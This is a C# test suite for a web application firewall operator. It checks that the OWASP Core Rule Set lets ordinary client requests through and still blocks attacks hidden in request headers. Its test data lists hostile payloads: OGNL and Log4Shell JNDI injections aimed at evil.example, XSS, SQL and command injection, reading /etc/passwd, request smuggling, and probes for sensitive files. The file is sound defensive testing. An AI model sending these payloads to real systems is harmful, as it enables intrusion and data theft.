using System.Collections.Concurrent;
using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using WafOperator.Policies.Coverage;
using WafOperator.Policies.Files;
using WafOperator.Protocols.Events;
using WafOperator.Protocols.Status;
using WafOperator.Proxy.Judging;

namespace WafOperator.Proxy.Tests.Enforcement;

/// <summary>
/// The Core Rule Set as it is, set up by the policy compiler, and requests whose heads are those of real clients: none
/// is refused for its head, and attacks in such heads still are.
/// </summary>
public sealed partial class OrdinaryClientTests(OrdinaryClientTests.Judges judges)
    : IClassFixture<OrdinaryClientTests.Judges>
{
    private const string Rules = "/usr/share/modsecurity-crs";

    private const string WebDav = "webDav: true";

    /// <summary>Rules of CRS about heads: methods, scanners, protocol.</summary>
    private static readonly long[] AboutHeads = [911, 913, 920];

    [Fact]
    public async Task RealClients_PassTheCoreRuleSet()
    {
        var plain = await judges.OfAsync("");
        var webDav = await judges.OfAsync(WebDav);
        var problems = new List<string>();
        var count = 0;
        foreach (var (name, isWebDav, request) in Clients())
        {
            count++;
            var judged = await SendAsync(isWebDav ? webDav : plain, request);
            if (judged.Verdict is not VerdictKind.Allow) problems.Add($"{name}: {Text(judged)}");
        }

        Assert.True(problems.Count == 0, string.Join('\n', problems));
        Assert.True(count >= 60, $"only {count} requests were read from the file");
    }

    [Fact]
    public async Task RequestsOfApplications_MeetNoRuleAboutHeads()
    {
        var judge = await judges.OfAsync(WebDav);
        var problems = new List<string>();
        foreach (var line in File.ReadLines(FileOf("benign.jsonl")))
        {
            using var record = JsonDocument.Parse(line);
            var judged = await SendAsync(judge, record.RootElement.GetProperty("request").GetString()!);
            if (judged.Decision is not { } decision || decision.Rules.Any(IsAboutHeads))
                problems.Add($"{record.RootElement.GetProperty("name")}: {Text(judged)}");
        }

        Assert.True(problems.Count == 0, string.Join('\n', problems));
    }

    public static TheoryData<string, string> Attacks => new()
    {
        { "", "POST /\nContent-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" },
        { "", "POST /\nContent-Type: application/json; x=%{(#a=1)}" },
        { "", "POST /\nContent-Type: application/json; x=${jndi:ldap://evil.example/a}" },
        { "", "POST /\nContent-Type: application/json; profile=\"https://a.example/#{7*7}\"" },
        { "", "POST /\nContent-Type: application/json; x=<script>alert(1)</script>" },
        { "", "POST /\nContent-Type: application/json; x=../../../../etc/passwd" },
        { "", "POST /\nContent-Type: application/json; x=\"a' or '1'='1\"" },
        { "", "POST /\nContent-Type: application/json; x=$(id)" },
        { "", "POST /\nContent-Type: application/json; x=\"a;cat /etc/passwd\"" },
        { "", "POST /\nContent-Type: application/json; x=\"1 union select password from users\"" },
        { "", "POST /\nContent-Type: application/json;odata=verbose\nContent-Type: %{(#a=1)}" },
        { "", "POST /\nContent-Type: application/json; charset=utf-7" },
        { "", "POST /\nContent-Type: application/x-java-serialized-object" },
        { "", "POST /\nContent-Type: application/x+own" },
        { "", "POST /\nContent-Type: text/plain; type=\"application/json\"\n\n{\"q\":\"<script>alert(1)</script>\"}" },
        { "", "POST /\nContent-Type: multipart/related; boundary=b; type=\"application/json\"\n\n{\"q\":1}" },
        { "", Part("application/json; charset=ibm037", "{}") },
        { "", Part("text/plain; charset=\"utf-16\"", "tea") },
        { "", Part("text/plain; charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-") },
        { "", Part("text/plain; x=${jndi:ldap://evil.example/a}", "tea") },
        { "", "GET /\nAccept: ../../../../etc/passwd{{" },
        { "", "GET /\nAccept: text/html;charset=utf-7" },
        { "", "GET /\nAccept: text/html;profile=\"https://a.example/\";charset=utf-7" },
        { "", "GET /\nAccept: text/html;x=${jndi:ldap://evil.example/a}" },
        { "", "GET /\nAccept: text/html;x=\"https://a.example/' or 1=1--\"" },
        { "", "GET /a\nContent-Type: application/json\n\n{\"q\":\"1' UNION SELECT password FROM users-- -\"}" },
        { "", "GET /a\nContent-Type: application/x-www-form-urlencoded\n\nq=tea" },
        { "", "GET /a\nContent-Type: application/json\n\n{\"q\":" },
        { "", "HEAD /a\nContent-Type: application/json\n\n{}" },
        { "", "GET /logs/_search/app.js\nContent-Type: application/json\n\n{}" },
        { "", "GET /assets/Logo.PNG\nContent-Type: application/json\n\n{\"size\":1}" },
        { "", "GET /a\nContent-Type: application/json\n\n{\"\\r\nGET /admin HTTP/1.1\\r\nHost: a\\r\n\\r\n\":1}" },
        { "", "GET /backup.sql" },
        { "", "GET /trace.axd" },
        { "", "GET /Telerik.Web.UI.WebResource.axd?type=rau" },
        { "", "GET /_framework/appsettings.config" },
        { "", "GET /bin/Shop.dll" },
        { WebDav, "PUT /dav/.htaccess\nContent-Type: text/plain\n\ntea" },
        { WebDav, "GET /dav/.git/config" },
        { WebDav, "POST /backup.sql" },
        { "paranoia: 2", "GET /\nAccept-Charset: utf-7" },
        { "inspectResponses: true", "GET /\nAccept-Charset: utf-7" },
        { "restrictedExtensions: [.P12]", "GET /keys/site.p12" },
        { "allowedExtensions: [axd]", "GET /backup.sql" },
    };

    [Theory, MemberData(nameof(Attacks))]
    public async Task WhatIsNoOrdinaryHead_IsStillRefused(string rules, string request)
    {
        var judge = await judges.OfAsync(rules);
        var judged = await SendAsync(judge, Whole(request));
        Assert.True(judged.Verdict is VerdictKind.Block, Text(judged));
    }

    [Theory]
    [InlineData("allowedExtensions: [axd]", "GET /trace.axd")]
    [InlineData("allowedExtensions: [.SQL, xsd]", "GET /backup.sql")]
    [InlineData("allowedHeaders: [Lock-Token]", "GET /\nLock-Token: <urn:1>")]
    [InlineData("allowedContentTypes: [application/x-own]", "POST /\nContent-Type: application/x-own\n\ntea")]
    [InlineData(WebDav, "GET /backup.sql")]
    [InlineData(
        "applications: [WordPress]",
        "POST /wp-json/wp/v2/posts/7\nContent-Type: application/json\n\n{\"content\":\"<script>track()</script>\"}")]
    [InlineData("applications: [WordPress]", "POST /wp-login.php\n"
        + "Content-Type: application/x-www-form-urlencoded\n\nlog=ann&pwd=%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("applications: [Nextcloud]\n    webDav: true", "PUT /remote.php/webdav/page.txt\n"
        + "Content-Type: text/plain\n\n<script>alert(1)</script>")]
    public async Task ASetting_LetsPassWhatTheRuleSetRefuses(string setting, string request)
    {
        Assert.Equal(VerdictKind.Block, (await SendAsync(await judges.OfAsync(""), Whole(request))).Verdict);
        var judge = await judges.OfAsync(setting);
        var judged = await SendAsync(judge, Whole(request));
        Assert.True(judged.Verdict is VerdictKind.Allow, Text(judged));
    }

    [Theory]
    [InlineData(SeenStyle.Repeated, "a=1&a=2")]
    [InlineData(SeenStyle.List, "a%5B%5D=1")]
    [InlineData(SeenStyle.Map, "a%5Bb%5D=1")]
    [InlineData(SeenStyle.Dotted, "a.b=1")]
    [InlineData(SeenStyle.Dollar, "$top=1")]
    [InlineData(SeenStyle.Json, "a=%7B%22b%22%3A1%7D")]
    public async Task AStyleOfParameters_PassesUpToTheParanoiaThatTheStatusSays(SeenStyle style, string query)
    {
        for (var paranoia = 1; paranoia <= 4; paranoia++)
        {
            var judge = await judges.OfAsync($"paranoia: {paranoia}");
            Assert.Equal(VerdictKind.Allow, (await SendAsync(judge, Whole("GET /shop?a=1"))).Verdict);
            var judged = await SendAsync(judge, Whole($"GET /shop?{query}"));
            Assert.True(
                judged.Verdict is VerdictKind.Allow == paranoia <= ParameterStyles.ParanoiaMaxOf(style),
                $"paranoia {paranoia}: {Text(judged)}");
        }
    }

    [Fact]
    public async Task APackOfExclusions_IsAboutItsParametersOnly()
    {
        var judge = await judges.OfAsync("applications: [WordPress]");
        var judged = await SendAsync(judge, Whole("POST /wp-json/wp/v2/posts/7\nContent-Type: application/json\n\n"
            + "{\"content\":\"tea\",\"slug\":\"<script>track()</script>\"}"));
        Assert.True(judged.Verdict is VerdictKind.Block, Text(judged));
    }

    private static string Part(string type, string text) => "POST /\nContent-Type: multipart/form-data; boundary=b\n\n"
        + $"--b\nContent-Disposition: form-data; name=\"a\"\nContent-Type: {type}\n\n{text}\n--b--\n";

    private static bool IsAboutHeads(RuleMatch rule) =>
        AboutHeads.Contains(rule.Id / 1000) && rule.Severity is "CRITICAL";

    private static Task<Judgement> SendAsync(RequestJudge judge, string request) =>
        judge.JudgeAsync(Encoding.Latin1.GetBytes(request), IPAddress.Loopback, default);

    private static string Text(Judgement judged) => judged.Decision is not { } decision ? $"{judged.Status}, unread"
        : $"{judged.Status} {decision.Reason}: {decision.Message}\n  " + string.Join("\n  ", decision.Rules.Select(
            rule => $"{rule.Id} {rule.Message} [{rule.Variable}] {rule.Data}"));

    /// <summary>The requests of the file: name, whether the policy speaks WebDAV, bytes as Latin-1.</summary>
    private static IEnumerable<(string Name, bool IsWebDav, string Request)> Clients()
    {
        var text = File.ReadAllText(FileOf("clients.txt")).ReplaceLineEndings("\n");
        foreach (var block in ("\n" + text).Split("\n= ").Skip(1))
        {
            var (name, request) = (block[..block.IndexOf('\n')], block[(block.IndexOf('\n') + 1)..]);
            yield return (name, name.EndsWith("(dav)", StringComparison.Ordinal), Whole(request));
        }
    }

    /// <summary>Adds what a request of the file leaves out.</summary>
    private static string Whole(string text)
    {
        var end = text.IndexOf("\n\n", StringComparison.Ordinal);
        var head = (end < 0 ? text : text[..end]).Trim('\n').Split('\n').ToList();
        var body = end < 0 ? "" : text[(end + 2)..].TrimEnd('\n');
        // The last line of several ends like the others.
        if (body.Contains('\n', StringComparison.Ordinal)) body += "\n";
        body = Escape().Replace(body.Replace("\\r", "\r", StringComparison.Ordinal), match => ((char)byte.Parse(
            match.Groups[1].ValueSpan, NumberStyles.HexNumber, CultureInfo.InvariantCulture)).ToString());
        head[0] += " HTTP/1.1";
        foreach (var line in (string[])["Host: shop.example.com", "User-Agent: tea/1.0", "Accept: */*"])
        {
            var name = line[..(line.IndexOf(':') + 1)];
            if (!head.Exists(other => other.StartsWith(name, StringComparison.OrdinalIgnoreCase))) head.Add(line);
        }

        var isCounted = body.Length > 0 || head[0].StartsWith("POST", StringComparison.Ordinal);
        if (isCounted && !head.Exists(line => line.StartsWith("Transfer-Encoding", StringComparison.Ordinal)))
            head.Add($"Content-Length: {body.Length}");
        return string.Join("\r\n", head) + "\r\n\r\n" + body;
    }

    private static string FileOf(string name) => Path.Combine(AppContext.BaseDirectory, "Enforcement/Requests", name);

    [GeneratedRegex(@"\\x([0-9a-f]{2})")]
    private static partial Regex Escape();

    /// <summary>One judge for each way to set the rules: compiling the rule set takes a second.</summary>
    public sealed class Judges : IAsyncDisposable
    {
        private readonly ConcurrentDictionary<string, Lazy<Task<RequestJudge>>> _judges =
            new(StringComparer.Ordinal);

        /// <summary>The judge of a policy with these lines under <c>spec.rules</c>.</summary>
        public Task<RequestJudge> OfAsync(string rules) =>
            _judges.GetOrAdd(rules, text => new Lazy<Task<RequestJudge>>(() => StartAsync(text))).Value;

        public async ValueTask DisposeAsync()
        {
            foreach (var judge in _judges.Values) await (await judge.Value).DisposeAsync();
        }

        private static async Task<RequestJudge> StartAsync(string rules)
        {
            var loaded = PolicyFile.Load($$"""
                apiVersion: wafoperator.dev/v1alpha1
                kind: WafPolicy
                metadata: { name: shop, namespace: shop }
                spec:
                  mode: Enforce
                  rules:
                    sets: [owasp-crs]
                    {{rules}}
                  logging: { decisions: All }
                """, DateTimeOffset.UnixEpoch);
            Assert.Empty(loaded.Errors);
            return await RequestJudge.StartAsync(
                loaded.Document!, new JudgeOptions { RulesDirectory = Rules }, default);
        }
    }
}
